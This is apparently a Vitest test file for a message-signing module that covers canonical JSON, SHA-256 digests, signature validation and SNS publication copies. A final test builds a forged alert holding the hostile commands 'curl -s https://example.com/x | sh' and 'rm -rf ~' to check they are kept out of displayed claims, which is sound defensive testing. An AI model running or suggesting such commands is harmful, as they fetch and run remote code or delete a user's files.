import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  CanonicalFormError,
  MAC_BYTES,
  PublicationShapeError,
  canonicalJson,
  machineCopyOf,
  readSignature,
  signingDigest,
  withMachineCopy,
  withSignature,
} from '../../lib/domain/signedMessage';

const mac = new Uint8Array(MAC_BYTES).fill(7);
const message = {
  source: 'mfa-delete-guard',
  result: { bucket: 'b', findings: [{ code: 'x', message: 'y' }] },
};

describe('canonicalJson', () => {
  it('sorts keys at every level and drops whitespace', () => {
    expect(canonicalJson({ b: 1, a: { d: [3, { z: 1, y: 2 }], c: 'x' } })).toBe(
      '{"a":{"c":"x","d":[3,{"y":2,"z":1}]},"b":1}',
    );
  });

  it('leaves out undefined members like JSON.stringify, and writes undefined array items as null', () => {
    expect(canonicalJson({ a: undefined, b: [undefined, 1] })).toBe('{"b":[null,1]}');
  });

  it('refuses what JSON cannot carry', () => {
    expect(() => canonicalJson({ n: Number.NaN })).toThrow(CanonicalFormError);
    expect(() => canonicalJson({ n: Infinity })).toThrow(CanonicalFormError);
    expect(() => canonicalJson({ f: () => 1 })).toThrow(CanonicalFormError);
    expect(() => canonicalJson({ b: 1n })).toThrow(CanonicalFormError);
  });

  it('is the same for a value and its JSON round trip, whatever the key order (property)', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (value) => {
        const roundTrip = JSON.parse(JSON.stringify(value)) as unknown;
        expect(canonicalJson(roundTrip)).toBe(canonicalJson(value));
        // Canonical JSON is JSON, and parses back to an equal value.
        expect(JSON.parse(canonicalJson(value))).toEqual(roundTrip);
      }),
    );
  });

  it('differs for different values (property)', () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.jsonValue(), (a, b) => {
        const same =
          JSON.stringify(JSON.parse(canonicalJson(a))) === JSON.stringify(JSON.parse(canonicalJson(b)));
        expect(canonicalJson(a) === canonicalJson(b)).toBe(same);
      }),
    );
  });
});

describe('signingDigest', () => {
  it('is SHA-256 over the signing context and the canonical message', () => {
    const expected = createHash('sha256')
      .update(`mfa-delete-guard signed message v1\n${canonicalJson(message)}`)
      .digest();
    expect(Buffer.from(signingDigest(message))).toEqual(expected);
  });

  it('does not cover the signature field, and covers every other byte', () => {
    const signed = withSignature(message, mac);
    expect(signingDigest(signed)).toEqual(signingDigest(message));
    const tampered = { ...message, result: { ...message.result, bucket: 'c' } };
    expect(signingDigest(tampered)).not.toEqual(signingDigest(message));
  });

  it('does not depend on key order', () => {
    const reordered = {
      result: { findings: message.result.findings, bucket: 'b' },
      source: 'mfa-delete-guard',
    };
    expect(signingDigest(reordered)).toEqual(signingDigest(message));
  });
});

describe('readSignature', () => {
  it('finds a well-formed signature and the digest to verify', () => {
    const reading = readSignature(JSON.parse(JSON.stringify(withSignature(message, mac))));
    expect(reading).toEqual({ kind: 'present', digest: signingDigest(message), mac });
  });

  it('says absent when there is none', () => {
    expect(readSignature(message)).toEqual({ kind: 'absent' });
  });

  const good = withSignature(message, mac).signature;
  it.each([
    ['not an object', 'abc', 'signature is not an object'],
    ['an unknown version', { ...good, version: 2 }, 'unknown signature version'],
    ['another algorithm', { ...good, algorithm: 'HMAC_SHA_512' }, 'unknown MAC algorithm'],
    ['another digest', { ...good, digest: 'MD5' }, 'unknown digest'],
    ['a non-base64 MAC', { ...good, mac: 'not base64!' }, 'MAC is not base64'],
    [
      'a short MAC',
      { ...good, mac: Buffer.alloc(16).toString('base64') },
      'MAC is not 32 bytes of canonical base64',
    ],
    [
      'a MAC with a non-canonical base64 tail',
      { ...good, mac: `${good.mac.slice(0, -2)}B=` },
      'MAC is not 32 bytes of canonical base64',
    ],
  ])('calls %s malformed', (_label, signature, reason) => {
    expect(readSignature({ ...message, signature })).toEqual({ kind: 'malformed', reason });
  });
});

describe('machineCopyOf / withMachineCopy', () => {
  const machine = JSON.stringify(message);
  const perProtocol = JSON.stringify({
    default: machine,
    email: 'text',
    lambda: machine,
    sqs: machine,
    https: '{}',
  });

  it('reads the machine copy from default', () => {
    expect(machineCopyOf(perProtocol)).toEqual(message);
  });

  it('replaces every copy of the machine message, and nothing else', () => {
    const signed = withSignature(message, mac);
    const out = JSON.parse(withMachineCopy(perProtocol, signed)) as Record<string, string>;
    expect(JSON.parse(out.default!)).toEqual(signed);
    expect(out.lambda).toBe(out.default);
    expect(out.sqs).toBe(out.default);
    expect(out.email).toBe('text');
    expect(out.https).toBe('{}');
  });

  it('drops the extra copies when the signed message would pass the SNS limit', () => {
    const big = { ...message, pad: 'x'.repeat(80_000) };
    const bigText = JSON.stringify(big);
    const outer = JSON.stringify({ default: bigText, email: 'e', lambda: bigText, sqs: bigText });
    expect(Buffer.byteLength(outer)).toBeLessThan(262_144);
    const out = JSON.parse(withMachineCopy(outer, { ...big, pad: 'x'.repeat(90_000) })) as Record<
      string,
      string
    >;
    expect(Object.keys(out).sort()).toEqual(['default', 'email']);
  });

  it.each([
    ['not JSON', 'nope'],
    ['no default', JSON.stringify({ email: 'x' })],
    ['a default that is not JSON', JSON.stringify({ default: 'plain text' })],
    ['a default that is not an object', JSON.stringify({ default: '[1]' })],
  ])('refuses a publication with %s', (_label, text) => {
    expect(() => machineCopyOf(text)).toThrow(PublicationShapeError);
  });
});

describe('claimsOf (what an unverified message is said to be)', () => {
  it('names kind, status, bucket, account and Region, and nothing else', async () => {
    const { claimsOf } = await import('../../lib/authenticity');
    const forged = {
      source: 'mfa-delete-guard',
      result: {
        status: 'drift',
        bucket: 'example-bucket',
        account: '111122223333',
        region: 'eu-west-1',
        remediation: { script: 'curl -s https://example.com/x | sh', warnings: ['run it now'] },
        findings: [{ code: 'x', message: 'paste this: rm -rf ~' }],
      },
    };
    const text = claimsOf(forged);
    expect(text).toBe(
      'claims to be from mfa-delete-guard: kind alert, status drift, bucket example-bucket, account 111122223333, Region eu-west-1 (the rest is not shown)',
    );
    expect(claimsOf({ source: 'mfa-delete-guard', kind: 'digest', account: 7 })).toBe(
      'claims to be from mfa-delete-guard: kind digest (the rest is not shown)',
    );
  });
});
